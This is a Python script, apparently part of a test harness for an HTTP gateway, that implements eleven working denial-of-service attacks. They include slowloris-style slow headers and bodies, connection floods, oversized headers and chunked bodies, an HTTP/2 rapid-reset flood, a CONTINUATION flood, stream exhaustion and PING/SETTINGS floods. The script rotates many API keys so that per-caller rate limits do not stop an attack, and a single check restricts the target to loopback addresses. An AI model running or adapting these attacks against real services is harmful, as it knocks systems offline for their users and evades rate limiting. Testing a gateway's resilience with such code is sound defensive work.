#!/usr/bin/env python3
"""An attacker: `attackers.py KIND HOST PORT KEYS SECONDS`. Each kind has a fixed rate, so that the cost for other
clients is caused by the gateway, not by the scheduler. KEYS is a file of so many keys that no rate limit of a caller
ends an attack early. HOST must be a loopback address."""
import itertools
import resource
import socket
import sys
import time
from collections import deque

CHUNKED = "transfer-encoding: chunked\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def head(keys, more):
    """Returns the head of a request with the next key."""
    return f"POST /api/item HTTP/1.1\r\nhost: api.example\r\nx-api-key: {next(keys)}\r\n{more}\r\n".encode()


def connect(to, source="127.0.0.2"):
    connection = socket.socket()
    connection.bind((source, 0))
    connection.settimeout(1)
    connection.connect(to)
    connection.setblocking(False)
    return connection


def send(connection, data):
    """Sends without blocking, and drops unsent data. Returns False if the gateway has ended the connection."""
    try:
        try:
            while connection.recv(65536):
                pass
            return False
        except BlockingIOError:
            pass
        try:
            connection.send(data)
        except BlockingIOError:
            pass
        return True
    except OSError:
        return False


def paced(per_second, end):
    """Runs at a fixed rate until the end."""
    start = time.monotonic()
    for at in itertools.count():
        wait = start + at / per_second - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        if time.monotonic() >= end:
            return
        yield at


def drip(to, end, begin, drop):
    """Opens 200 connections that send a few bytes a second each, and reopens closed ones."""
    connections = [None] * 200
    for at in paced(400, end):
        slot = at % len(connections)
        if connections[slot] is None or not send(connections[slot], drop):
            connections[slot] = connect(to)
            send(connections[slot], begin())


def slow_heads(to, keys, end):
    drip(to, end, lambda: b"GET /api/item HTTP/1.1\r\nhost: api.example\r\n", b"x-a: b\r\n")


def slow_bodies(to, keys, end):
    drip(to, end, lambda: head(keys, "content-length: 100000\r\n"), b"x")


def connections(to, keys, end):
    """Opens 1000 connections a second from 8 addresses, and holds those that the gateway leaves open."""
    held = deque()
    for at in paced(1000, end):
        try:
            held.append(connect(to, f"127.0.0.{2 + at % 8}"))
        except OSError:
            continue
        if len(held) > 4000:
            held.popleft().close()


def repeated(to, end, per_second, compose):
    """Sends each request on a new connection, and reads until the gateway ends it, at most a quarter second."""
    open_ones = deque()
    for _ in paced(per_second, end):
        connection = connect(to)
        rest = memoryview(compose())
        deadline = time.monotonic() + 0.25
        while rest and time.monotonic() < deadline:
            try:
                rest = rest[connection.send(rest[:262144]):]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
        open_ones.append(connection)
        if len(open_ones) > 50:
            open_ones.popleft().close()


def huge_heads(to, keys, end):
    repeated(to, end, 100, lambda: head(keys, "x-a: " + "a" * 65536 + "\r\n"))


def huge_fields(to, keys, end):
    repeated(to, end, 100, lambda: head(keys, "x-a: b\r\n" * 5000))


def huge_chunks(to, keys, end):
    chunk = b"fffffffffffffff0;" + b"x" * 4096 + b"\r\n" + b"y" * 4096
    repeated(to, end, 200, lambda: head(keys, CHUNKED) + chunk)


def huge_bodies(to, keys, end):
    content = (b"10000\r\n" + b"x" * 65536 + b"\r\n") * 168
    repeated(to, end, 4, lambda: head(keys, CHUNKED) + content)


def frame(kind, flags, stream, content=b""):
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def block(keys):
    """Returns the header block of POST /api/item with the next key."""
    literal = lambda text: bytes([len(text)]) + text.encode()
    return (b"\x83\x86\x04" + literal("/api/item") + b"\x01" + literal("api.example")
            + b"\x00" + literal("x-api-key") + literal(next(keys)))


def http2(to, end, per_second, frames, start=lambda: b"", several=1):
    """Sends frames on a few connections in turn; reopens connections that the gateway ends."""
    slots = [None] * several
    for at in paced(per_second, end):
        slot = at % several
        if slots[slot] is None or not send(slots[slot][0], frames(next(slots[slot][1]))):
            try:
                slots[slot] = connect(to), itertools.count(1, 2)
            except OSError:
                slots[slot] = None
                continue
            send(slots[slot][0], PREFACE + frame(SETTINGS, 0, 0) + start())


def h2_reset(to, keys, end):
    """Sends 2000 requests a second and resets each at once."""
    def ten(stream):
        numbers = range(10 * stream - 9, 10 * stream + 11, 2)
        return b"".join(frame(HEADERS, END_HEADERS, number, block(keys))
                        + frame(RST_STREAM, 0, number, b"\0\0\0\x08") for number in numbers)
    http2(to, end, 200, ten)


def h2_continuation(to, keys, end):
    """Sends endless heads: 1000 CONTINUATION frames of 1 KiB a second."""
    more = frame(CONTINUATION, 0, 1, (b"\x00\x03x-a\x01b" * 200)[:1024])
    http2(to, end, 1000, lambda stream: more, lambda: frame(HEADERS, 0, 1, block(keys)))


def h2_streams(to, keys, end):
    """Sends requests without their bodies on 8 connections: more streams than are allowed."""
    http2(to, end, 1000, lambda stream: frame(HEADERS, END_HEADERS, stream, block(keys)), several=8)


def h2_pings(to, keys, end):
    """Sends 2000 PING and 2000 SETTINGS a second, and reads no responses."""
    flood = (frame(PING, 0, 0, b"\0" * 8) + frame(SETTINGS, 0, 0)) * 20
    http2(to, end, 100, lambda stream: flood)


KINDS = {one.__name__: one for one in (
    slow_heads, slow_bodies, connections, huge_heads, huge_fields, huge_chunks, huge_bodies, h2_reset,
    h2_continuation, h2_streams, h2_pings)}

if __name__ == "__main__":
    name, host, port, file, seconds = sys.argv[1:]
    if not host.startswith("127."):
        sys.exit("HOST must be a loopback address")
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    known = itertools.cycle(open(file).read().split())
    KINDS[name]((host, int(port)), known, time.monotonic() + float(seconds))
